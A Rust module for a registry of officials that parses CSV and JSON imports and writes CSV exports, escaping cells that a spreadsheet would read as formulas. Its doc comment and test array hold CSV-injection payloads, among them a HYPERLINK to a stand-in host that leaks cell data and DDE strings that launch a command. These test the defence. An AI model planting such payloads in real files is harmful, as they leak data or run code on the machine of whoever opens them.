//! The registry as a file: CSV (and JSON arrays) in, CSV out.
//!
//! # CSV columns
//!
//! One header row, then one official per row. Columns may come in any order; only `name` is
//! required; an unknown or repeated column is an error (a typo must not drop data silently).
//!
//! | column | content |
//! |---|---|
//! | `id` | the official's id; empty = a new official (a fresh id is assigned) |
//! | `name` | full name (required) |
//! | `aliases` | other names, `|`-separated: `अरविंद मेहता|A. Mehta` |
//! | `designation` | the post |
//! | `designation_aliases` | other names of the post, `|`-separated |
//! | `organization` | the office |
//! | `phones` | `number:label` pairs, `|`-separated: `+917000000001:official|+917000000002:pa`; any written form of a number; the label may be left out (`official`) |
//! | `status` | `active` or `revoked`; when empty, a new official is `active` and an existing one keeps its status |
//! | `notes` | free text |
//! | `valid_from`, `valid_until` | RFC 3339 time, or `YYYY-MM-DD` (start / end of that day, UTC); empty = no limit |
//!
//! UTF-8 with or without a byte-order mark, LF or CRLF line ends, fields quoted as RFC 4180
//! (a comma, quote or line break inside a field needs quotes). Export writes all columns in
//! the order above, ordered by id, so export → import → export gives the same bytes.
//!
//! # Cells a spreadsheet would run
//!
//! A spreadsheet opening the export treats a cell that begins with `=`, `+`, `-`, `@`, a tab
//! or a carriage return as a formula: a name like `=HYPERLINK("http://evil.example/?x="&A1)`
//! would run on the admin's machine (CSV or formula injection). So export writes such a cell
//! with a leading `'` (the OWASP rule), and import takes exactly that `'` off again:
//!
//! - **export**: a cell that begins with any number of `'` followed by one of those
//!   characters gets one more `'` in front (`=x` → `'=x`, `'=x` → `''=x`); any other cell is
//!   written as it is (`'hello` stays `'hello`).
//! - **import** (CSV only): a cell that begins with one or more `'` followed by one of those
//!   characters loses its first `'` (`'=x` → `=x`, `''=x` → `'=x`); any other cell is read as
//!   it is (`'hello` stays `'hello`: export could never have written it from anything else).
//!
//! Export's cells that get a `'` are exactly the ones import takes it off, so every value
//! comes back unchanged, whatever it begins with. The rule covers every text column (`id`,
//! `name`, `aliases`, `designation`, `designation_aliases`, `organization`, `notes`; the
//! other columns never begin with those characters). `phones` is the one exception: it always
//! begins with the `+` of an E.164 number, holds only validated numbers and labels of
//! letters, digits, spaces, `_` and `-`, so it cannot call a function, and stays as written.
//!
//! A JSON import is an array of objects with the same keys (lists as JSON arrays, phones as
//! strings or `{"number", "label"}` objects); `created_at`, `updated_at` and `version` are
//! accepted and ignored, so a listed official can be imported back.

use serde::Deserialize;
use time::format_description::well_known::Rfc3339;

use super::error::{RegistryError, RowError};
use super::model::{Official, OfficialStatus};
use super::validate::{LabelledPhone, NewOfficial, PhoneInput};

/// The CSV columns, in export order.
pub const CSV_COLUMNS: [&str; 11] = [
    "id",
    "name",
    "aliases",
    "designation",
    "designation_aliases",
    "organization",
    "phones",
    "status",
    "notes",
    "valid_from",
    "valid_until",
];

/// One official as an import file gives it: an optional id, then the fields of a new official.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ImportRow {
    /// Existing id to update (or to create with), or none for a new official.
    #[serde(default)]
    pub id: Option<String>,
    /// Full name.
    pub name: String,
    /// Other names.
    #[serde(default)]
    pub aliases: Vec<String>,
    /// The post.
    #[serde(default)]
    pub designation: String,
    /// Other names of the post.
    #[serde(default)]
    pub designation_aliases: Vec<String>,
    /// The office.
    #[serde(default)]
    pub organization: String,
    /// Numbers.
    #[serde(default)]
    pub phones: Vec<PhoneInput>,
    /// `active` or `revoked`.
    #[serde(default)]
    pub status: Option<OfficialStatus>,
    /// Free text.
    #[serde(default)]
    pub notes: String,
    /// Start of validity.
    #[serde(default)]
    pub valid_from: Option<String>,
    /// End of validity.
    #[serde(default)]
    pub valid_until: Option<String>,
    /// Ignored (server-managed); accepted so that listed officials import back.
    #[serde(default, rename = "created_at")]
    _created_at: Option<serde_json::Value>,
    /// Ignored (server-managed).
    #[serde(default, rename = "updated_at")]
    _updated_at: Option<serde_json::Value>,
    /// Ignored (server-managed).
    #[serde(default, rename = "version")]
    _version: Option<serde_json::Value>,
}

impl ImportRow {
    /// Split into the id and the fields of an official.
    pub fn into_parts(self) -> (Option<String>, NewOfficial) {
        let id = self.id.filter(|s| !s.trim().is_empty());
        (
            id,
            NewOfficial {
                name: self.name,
                aliases: self.aliases,
                designation: self.designation,
                designation_aliases: self.designation_aliases,
                organization: self.organization,
                phones: self.phones,
                status: self.status,
                notes: self.notes,
                valid_from: self.valid_from,
                valid_until: self.valid_until,
            },
        )
    }
}

/// Which file format an import is in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ImportFormat {
    /// RFC 4180 CSV with the columns above.
    Csv,
    /// A JSON array of objects.
    Json,
}

impl ImportFormat {
    /// From a `Content-Type` (parameters ignored) or a file extension / name.
    pub fn detect(content_type_or_ext: &str) -> Result<ImportFormat, RegistryError> {
        let t = content_type_or_ext
            .split(';')
            .next()
            .unwrap_or("")
            .trim()
            .to_ascii_lowercase();
        let ext = t.rsplit('.').next().unwrap_or("");
        match (t.as_str(), ext) {
            ("text/csv" | "application/csv" | "csv", _) | (_, "csv") => Ok(ImportFormat::Csv),
            ("application/json" | "json", _) | (_, "json") => Ok(ImportFormat::Json),
            _ => Err(RegistryError::UnsupportedFormat(
                content_type_or_ext.to_string(),
            )),
        }
    }
}

/// Read an import file into rows. File-level problems are `BadFile`; problems within a row
/// are collected as `Rows` (every bad row, not just the first).
pub fn parse_import(bytes: &[u8], format: ImportFormat) -> Result<Vec<ImportRow>, RegistryError> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    match format {
        ImportFormat::Csv => parse_csv(bytes),
        ImportFormat::Json => parse_json(bytes),
    }
}

fn parse_json(bytes: &[u8]) -> Result<Vec<ImportRow>, RegistryError> {
    let values: Vec<serde_json::Value> = serde_json::from_slice(bytes).map_err(|e| {
        RegistryError::BadFile(format!(
            "the body is not a JSON array of officials (line {}, column {}): {}",
            e.line(),
            e.column(),
            e
        ))
    })?;
    let mut rows = Vec::with_capacity(values.len());
    let mut errors = Vec::new();
    for (i, v) in values.into_iter().enumerate() {
        match serde_json::from_value::<ImportRow>(v) {
            Ok(r) => rows.push(r),
            Err(e) => errors.push(RowError {
                row: i + 1,
                field: field_of_serde_error(&e.to_string()),
                message: e.to_string(),
            }),
        }
    }
    if errors.is_empty() {
        Ok(rows)
    } else {
        Err(RegistryError::Rows(errors))
    }
}

/// Best effort: serde names the field in "unknown field `x`" / "missing field `x`".
fn field_of_serde_error(message: &str) -> String {
    message
        .split('`')
        .nth(1)
        .filter(|_| message.contains("field"))
        .unwrap_or("")
        .to_string()
}

fn parse_csv(bytes: &[u8]) -> Result<Vec<ImportRow>, RegistryError> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(false)
        .from_reader(bytes);
    let headers = reader
        .headers()
        .map_err(|e| RegistryError::BadFile(format!("the CSV header cannot be read: {e}")))?
        .clone();
    let mut columns: Vec<usize> = Vec::with_capacity(headers.len());
    for h in headers.iter() {
        let h = h.trim();
        let Some(c) = CSV_COLUMNS.iter().position(|c| *c == h) else {
            return Err(RegistryError::BadFile(format!(
                "unknown CSV column `{h}`; the columns are {}",
                CSV_COLUMNS.join(",")
            )));
        };
        if columns.contains(&c) {
            return Err(RegistryError::BadFile(format!(
                "CSV column `{h}` appears twice"
            )));
        }
        columns.push(c);
    }
    if !columns.contains(&1) {
        return Err(RegistryError::BadFile(
            "the CSV header has no `name` column".into(),
        ));
    }
    let mut rows = Vec::new();
    let mut errors = Vec::new();
    for (i, record) in reader.records().enumerate() {
        let row = i + 1;
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                errors.push(RowError {
                    row,
                    field: String::new(),
                    message: format!("not a valid CSV row: {e}"),
                });
                continue;
            }
        };
        let mut r = ImportRow::default();
        for (cell, &c) in record.iter().zip(&columns) {
            let cell = if c == PHONES {
                cell
            } else {
                unescape_cell(cell)
            };
            match c {
                0 => r.id = Some(cell.trim().to_string()),
                1 => r.name = cell.to_string(),
                2 => r.aliases = split_list(cell),
                3 => r.designation = cell.to_string(),
                4 => r.designation_aliases = split_list(cell),
                5 => r.organization = cell.to_string(),
                6 => r.phones = split_phones(cell),
                7 => match cell.trim() {
                    "" => r.status = None,
                    "active" => r.status = Some(OfficialStatus::Active),
                    "revoked" => r.status = Some(OfficialStatus::Revoked),
                    other => errors.push(RowError {
                        row,
                        field: "status".into(),
                        message: format!("`{other}` is not a status: use active or revoked"),
                    }),
                },
                8 => r.notes = cell.to_string(),
                9 => r.valid_from = Some(cell.to_string()),
                _ => r.valid_until = Some(cell.to_string()),
            }
        }
        rows.push(r);
    }
    if errors.is_empty() {
        Ok(rows)
    } else {
        Err(RegistryError::Rows(errors))
    }
}

fn split_list(cell: &str) -> Vec<String> {
    cell.split('|')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(String::from)
        .collect()
}

fn split_phones(cell: &str) -> Vec<PhoneInput> {
    split_list(cell)
        .into_iter()
        .map(|p| match p.split_once(':') {
            Some((number, label)) => PhoneInput::Labelled(LabelledPhone {
                number: number.trim().to_string(),
                label: Some(label.trim().to_string()),
            }),
            None => PhoneInput::Written(p),
        })
        .collect()
}

/// Position of the `phones` column in [`CSV_COLUMNS`]: the one column never escaped.
const PHONES: usize = 6;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is `'`* followed by a formula character: the cells export escapes (once
/// more) and import unescapes (see the module docs).
fn starts_like_formula(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .starts_with(FORMULA_START.as_slice())
}

/// A text cell as export writes it: with one more `'` when a spreadsheet would run it.
fn escape_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    if starts_like_formula(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A text cell as import reads it: the `'` that [`escape_cell`] adds, taken off again.
fn unescape_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_like_formula(rest) => rest,
        _ => cell,
    }
}

/// Write officials as CSV, in the order given (callers pass them ordered by id).
pub fn write_csv(officials: &[Official]) -> Result<Vec<u8>, RegistryError> {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(officials.len() * 200 + 128));
    let bad = |e: csv::Error| RegistryError::BadFile(format!("cannot write CSV: {e}"));
    w.write_record(CSV_COLUMNS).map_err(bad)?;
    for o in officials {
        let phones = o
            .phones
            .iter()
            .map(|p| format!("{}:{}", p.number.as_str(), p.label))
            .collect::<Vec<_>>()
            .join("|");
        let date = |d: Option<time::OffsetDateTime>| {
            d.and_then(|d| d.format(&Rfc3339).ok()).unwrap_or_default()
        };
        let text = |cell: &str| escape_cell(cell).into_owned();
        w.write_record([
            text(o.id.as_str()),
            text(&o.name),
            text(&o.aliases.join("|")),
            text(&o.designation),
            text(&o.designation_aliases.join("|")),
            text(&o.organization),
            phones,
            text(o.status.as_str()),
            text(&o.notes),
            text(&date(o.valid_from)),
            text(&date(o.valid_until)),
        ])
        .map_err(bad)?;
    }
    w.into_inner()
        .map_err(|e| RegistryError::BadFile(format!("cannot write CSV: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rows(csv: &str) -> Vec<ImportRow> {
        parse_import(csv.as_bytes(), ImportFormat::Csv).unwrap()
    }

    #[test]
    fn bom_crlf_quoted_commas_and_devanagari_are_read() {
        let csv = "\u{feff}name,aliases,phones,organization\r\n\
                   \"Mehta, Arvind\",अरविंद मेहता|A. Mehta,+91 70000 00001:official|07000000002:PA,\"Dewas, MP\"\r\n";
        let r = rows(csv);
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].name, "Mehta, Arvind");
        assert_eq!(r[0].aliases, ["अरविंद मेहता", "A. Mehta"]);
        assert_eq!(r[0].organization, "Dewas, MP");
        assert_eq!(r[0].phones.len(), 2);
    }

    #[test]
    fn an_unknown_or_missing_column_is_a_file_error() {
        for csv in ["name,phone\nA,1\n", "id,phones\nx,1\n", "name,name\nA,B\n"] {
            let err = parse_import(csv.as_bytes(), ImportFormat::Csv).unwrap_err();
            assert!(matches!(err, RegistryError::BadFile(_)), "{csv}: {err}");
        }
    }

    #[test]
    fn a_row_with_the_wrong_number_of_cells_is_named() {
        let err = parse_import(b"name,notes\nA,x\nB,y,z\n", ImportFormat::Csv).unwrap_err();
        let RegistryError::Rows(errs) = err else {
            panic!("{err}")
        };
        assert_eq!(errs[0].row, 2);
    }

    #[test]
    fn a_bad_status_is_named_by_row_and_field() {
        let err =
            parse_import(b"name,status\nA,active\nB,retired\n", ImportFormat::Csv).unwrap_err();
        let RegistryError::Rows(errs) = err else {
            panic!("{err}")
        };
        assert_eq!((errs[0].row, errs[0].field.as_str()), (2, "status"));
    }

    #[test]
    fn json_rows_with_unknown_fields_are_named() {
        let err = parse_import(
            br#"[{"name":"A"},{"name":"B","fone":"1"}]"#,
            ImportFormat::Json,
        )
        .unwrap_err();
        let RegistryError::Rows(errs) = err else {
            panic!("{err}")
        };
        assert_eq!((errs[0].row, errs[0].field.as_str()), (2, "fone"));
        assert!(matches!(
            parse_import(b"{\"name\":\"A\"}", ImportFormat::Json),
            Err(RegistryError::BadFile(_))
        ));
    }

    #[test]
    fn formats_are_detected_from_content_type_or_extension() {
        assert_eq!(
            ImportFormat::detect("text/csv; charset=utf-8").unwrap(),
            ImportFormat::Csv
        );
        assert_eq!(
            ImportFormat::detect("registry.JSON").unwrap(),
            ImportFormat::Json
        );
        assert!(ImportFormat::detect("application/xml").is_err());
    }

    #[test]
    fn the_sample_registry_reads_and_validates() {
        let bytes = include_bytes!("../../samples/registry.csv");
        let rows = parse_import(bytes, ImportFormat::Csv).unwrap();
        assert!((6..=10).contains(&rows.len()));
        for r in rows {
            let (id, input) = r.into_parts();
            assert!(id.is_some());
            crate::registry::validate::validate_new(&input, crate::phone::Region::INDIA).unwrap();
        }
    }

    const ATTACKS: [&str; 7] = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
    ];

    fn official(name: &str, notes: &str) -> Official {
        let now = time::OffsetDateTime::UNIX_EPOCH;
        Official {
            id: crate::registry::OfficialId::parse("off_1").unwrap(),
            name: name.into(),
            aliases: vec![name.into(), "plain".into()],
            designation: name.into(),
            designation_aliases: vec![name.into()],
            organization: name.into(),
            phones: vec![crate::registry::PhoneEntry {
                number: crate::phone::E164::parse("+917000000001", crate::phone::Region::INDIA)
                    .unwrap(),
                label: "pa".into(),
            }],
            status: OfficialStatus::Active,
            notes: notes.into(),
            valid_from: None,
            valid_until: None,
            created_at: now,
            updated_at: now,
            version: 1,
        }
    }

    /// The data cells of an export, as a spreadsheet would see them.
    fn exported_cells(o: &Official) -> Vec<String> {
        let bytes = write_csv(std::slice::from_ref(o)).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let record = reader.records().next().unwrap().unwrap();
        record.iter().map(String::from).collect()
    }

    #[test]
    fn no_exported_text_cell_begins_like_a_formula() {
        for attack in ATTACKS {
            let cells = exported_cells(&official(attack, attack));
            for (i, cell) in cells.iter().enumerate() {
                if i == PHONES {
                    assert_eq!(cell, "+917000000001:pa");
                    continue;
                }
                assert!(
                    !cell.starts_with(FORMULA_START.as_slice()),
                    "column {} of {attack:?}: {cell:?}",
                    CSV_COLUMNS[i]
                );
            }
            assert_eq!(cells[1], format!("'{attack}"), "name");
            assert_eq!(cells[2], format!("'{attack}|plain"), "aliases");
            assert_eq!(cells[8], format!("'{attack}"), "notes");
        }
    }

    #[test]
    fn import_takes_off_exactly_the_quote_that_export_adds() {
        for (cell, imported) in [
            ("'=x", "=x"),
            ("''=x", "'=x"),
            ("'+1", "+1"),
            ("'-1", "-1"),
            ("'@x", "@x"),
            ("'\tx", "\tx"),
            ("'hello", "'hello"),
            ("''hello", "''hello"),
            ("'", "'"),
            ("", ""),
            ("=x", "=x"),
            ("O'Brien", "O'Brien"),
        ] {
            assert_eq!(unescape_cell(cell), imported, "{cell:?}");
        }
    }

    #[test]
    fn every_text_comes_back_from_export_and_import_unchanged() {
        let texts = ATTACKS.iter().copied().chain([
            "plain",
            "'hello",
            "''=x",
            "'",
            "''",
            "",
            "O'Brien",
            "-",
            "अरविंद",
        ]);
        for text in texts {
            assert_eq!(unescape_cell(&escape_cell(text)), text, "{text:?}");
        }
    }

    #[test]
    fn a_csv_export_of_formula_like_text_imports_back_to_the_same_text() {
        for attack in ATTACKS {
            let o = official(attack, &format!("{attack}\nsecond line"));
            let bytes = write_csv(std::slice::from_ref(&o)).unwrap();
            let rows = parse_import(&bytes, ImportFormat::Csv).unwrap();
            let r = &rows[0];
            assert_eq!(r.name, attack);
            // List cells split at `|` and trim their entries (validation refuses `|` inside
            // an entry, so a registry never holds one).
            assert_eq!(r.aliases.join("|"), format!("{}|plain", attack.trim()));
            assert_eq!(r.designation_aliases.join("|"), attack.trim());
            assert_eq!(r.notes, o.notes);
        }
    }

    #[test]
    fn a_json_import_is_never_unescaped() {
        let rows = parse_import(br#"[{"name": "'=x"}]"#, ImportFormat::Json).unwrap();
        assert_eq!(rows[0].name, "'=x");
    }
}
